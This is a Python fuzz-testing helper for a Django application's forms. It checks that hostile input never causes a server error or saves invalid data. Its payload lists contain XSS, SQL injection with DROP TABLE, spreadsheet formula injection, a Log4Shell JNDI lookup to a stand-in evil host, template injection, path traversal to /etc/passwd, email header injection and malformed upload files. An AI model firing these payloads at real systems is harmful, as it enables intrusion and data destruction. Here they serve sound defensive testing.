"""Hypothesis fuzzing of forms: hostile input never gives a 500 and never saves anything invalid.

Reuse it for any form:

    from .fuzzing import fuzz_form, hostile_text, snapshot

    def test_concern_form_survives_hostile_input(client, world):
        client.force_login(world.teacher)
        before = snapshot(Concern.objects.all())

        def check(data, response):
            if response.status_code == 200:              # the form came back with errors
                assert snapshot(Concern.objects.all()) == before

        fuzz_form(client, reverse("concern_create", args=[...]), st.fixed_dictionaries({
            "title": hostile_text(), "description": hostile_text(), "level": st.sampled_from(["1", "x", ""]),
        }), check=check, name="concern form")

`fuzz_form` always asserts "no server error"; `check(data, response)` adds what the form promises.
Examples run per form are counted and printed at the end of the run (tests/conftest.py).
"""

import datetime
from collections import Counter

from django import forms as django_forms
from django.contrib.messages import constants as message_levels
from django.core.exceptions import SuspiciousFileOperation
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.html import escape
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

EXAMPLES = Counter()

# Input people (or attackers) really send: markup, injections, odd Unicode, huge and empty values.
NASTY_STRINGS = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "' OR '1'='1' --",
    "'; DROP TABLE crocoos_user; --",
    '=HYPERLINK("http://evil.example.com")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "${jndi:ldap://evil.example.com/a}",
    "{{ 7*7 }}",
    "{% debug %}",
    "../../../../etc/passwd",
    "\u202eevil\u202c",
    "Ödön Lőrincz ș ț å ø ž ć",
    "𝕏" * 40,
    "x" * 5000,
    "\r\nBcc: victim@example.org",
    "teacher@test.example.org\x00@evil.example.com",
]


def hostile_text(max_size=300):
    return st.one_of(st.sampled_from(NASTY_STRINGS), st.text(max_size=max_size))


def hostile_email():
    return st.one_of(st.emails(), hostile_text(80))


def snapshot(queryset, *fields):
    """The rows a form must not change, as comparable values."""
    return list(queryset.order_by("pk").values_list(*(fields or ["pk"]), named=False))


def fuzz_form(client, url, strategy, *, check=None, name=None, examples=60, method="post"):
    """Send `examples` generated submissions of `strategy` to `url`; no 5xx, then `check(data, response)`.

    Derandomized: the same examples on every run, so CI is stable (hypothesis still shrinks a failure).
    """

    @settings(
        max_examples=examples,
        deadline=None,
        database=None,
        derandomize=True,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(data=strategy)
    def run(data):
        response = getattr(client, method)(url, data)
        assert response.status_code < 500, f"{url} answered {response.status_code} to {data!r}"
        if check is not None:
            check(data, response)
        EXAMPLES[name or url] += 1

    run()


# --- fuzzing a real submission ---------------------------------------------------------------
# Most forms are fuzzed by taking the submission the page itself would send (`post_data`) and
# replacing one or more of its values with hostile ones (`mutated`): deep enough to pass the
# management forms and reach every field's validation, and close enough to valid that some
# examples are accepted.

ERROR_MARKS = ("is-invalid", "alert-danger", "invalid-feedback", "errorlist")
TYPED_WIDGETS = (django_forms.TextInput, django_forms.Textarea, django_forms.EmailInput, django_forms.URLInput)


def _as_post_value(value):
    if isinstance(value, datetime.date | datetime.time):
        return value.isoformat()
    return str(value)


def post_data(*forms):
    """What the browser sends for these forms (and formsets) as the page shows them."""
    data = {}
    for form in forms:
        if hasattr(form, "management_form"):
            data.update(post_data(form.management_form, *form.forms))
            continue
        for field in form:
            value = field.value()
            if value is None or value is False:
                continue
            if value is True:
                data[field.html_name] = "on"
            elif isinstance(value, list | tuple):
                data[field.html_name] = [_as_post_value(item) for item in value]
            else:
                data[field.html_name] = _as_post_value(value)
    return data


def typed_fields(*forms):
    """html names of the fields people type into (kept as typed when the form comes back)."""
    names = set()
    for form in forms:
        if hasattr(form, "management_form"):
            names |= typed_fields(*form.forms)
            continue
        names |= {f.html_name for f in form if isinstance(f.field.widget, TYPED_WIDGETS) and not f.is_hidden}
    return names


def mutated(base, keys=None, values=None, extra=()):
    """`base` with one to four of `keys` (default: all, plus `extra` ones it lacks) replaced by hostile values."""
    keys = sorted(set(keys or base) | set(extra))
    if values is None:  # (not `values or …`: a strategy's truth is a Hypothesis warning)
        values = st.one_of(hostile_text(), st.lists(hostile_text(40), max_size=3))
    return st.dictionaries(st.sampled_from(keys), values, min_size=1, max_size=4).map(lambda over: {**base, **over})


HOSTILE_FILES = [
    b"",
    b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
    b"%PDF-1.4\n<</S/JavaScript/JS(app.alert(1))>>\n%%EOF",
    b"\x89PNG\r\n\x1a\n" + b"\x00" * 20,
    b"<html><script>alert(1)</script></html>",
    b"MZ\x90\x00\x03" + b"\x00" * 60,
    b"PK\x03\x04" + b"\x00" * 40,
    b"name;first name\n=cmd|' /C calc'!A0;<script>alert(1)</script>\n",
    '\ufeffnév,Ödön\n"unterminated,\n'.encode(),
    "a,b\n".encode("utf-16"),
    b"\xff\xfe\x00garbage\x00" * 50,
]
HOSTILE_FILE_NAMES = [
    "a.pdf",
    "a.png",
    "a.jpg",
    "a.csv",
    "a.xlsx",
    "a.exe",
    "a.pdf.exe",
    "../../x.csv",
    "",
    ".csv",
    "ä ő.csv",
]


def hostile_file():
    """A fresh upload each draw: known-nasty or random bytes under a plausible or hostile name."""
    content = st.one_of(st.sampled_from(HOSTILE_FILES), st.binary(max_size=3000))
    names = st.one_of(st.sampled_from(HOSTILE_FILE_NAMES), hostile_text(60))
    return st.tuples(names, content).map(lambda drawn: _upload(*drawn))


def _upload(name, content):
    try:
        return SimpleUploadedFile(name, content)
    except SuspiciousFileOperation:  # "/", "..": a browser sends such a name, the test client cannot
        return SimpleUploadedFile("x", content)


def _queued_errors(response):
    storage = getattr(response.wsgi_request, "_messages", None)
    return [m for m in getattr(storage, "_queued_messages", []) if m.level >= message_levels.ERROR]


def fuzz_submission(
    client,
    url,
    strategy,
    *,
    name,
    watch,
    typed=(),
    valid=None,
    accepted=(302,),
    examples=50,
    method="post",
    after_accept=None,
):
    """Fuzz one form the way people use it; after every example:

    - no server error;
    - an accepted submission (status in `accepted`, no error message, `valid(data)` when given)
      becomes the new baseline of `watch()`;
    - anything else changed nothing that `watch()` sees, shows an error (on the form, or as an
      error message after a redirect), and a re-shown form keeps what was typed in `typed` fields.
    """
    state = {"before": watch()}

    def check(data, response):
        page = response.content.decode(errors="replace")
        errors = _queued_errors(response)
        ok = response.status_code in accepted and not errors and (valid is None or valid(data))
        if ok:
            state["before"] = watch()
            if after_accept is not None:
                after_accept()
                state["before"] = watch()
            return
        assert watch() == state["before"], f"{name}: an invalid submission changed data: {data!r}"
        if response.status_code in (301, 302, 303):
            assert errors, f"{name}: invalid submission redirected without an error message: {data!r}"
            return
        assert response.status_code in (200, 400, 409), f"{name}: answered {response.status_code} to {data!r}"
        assert any(mark in page for mark in ERROR_MARKS), f"{name}: no error shown for {data!r}"
        for field in typed:
            value = data.get(field)
            if isinstance(value, str) and value.strip() and not set(value) & {"\x00", "\r"}:
                assert escape(value) in page, f"{name}: lost what was typed in {field}: {value!r}"

    if method == "post":  # as a browser sends it: never an empty body (the test client skips the CSRF check)
        strategy = strategy.map(lambda data: {"csrfmiddlewaretoken": "fuzz", **data})
    fuzz_form(client, url, strategy, check=check, name=name, examples=examples, method=method)
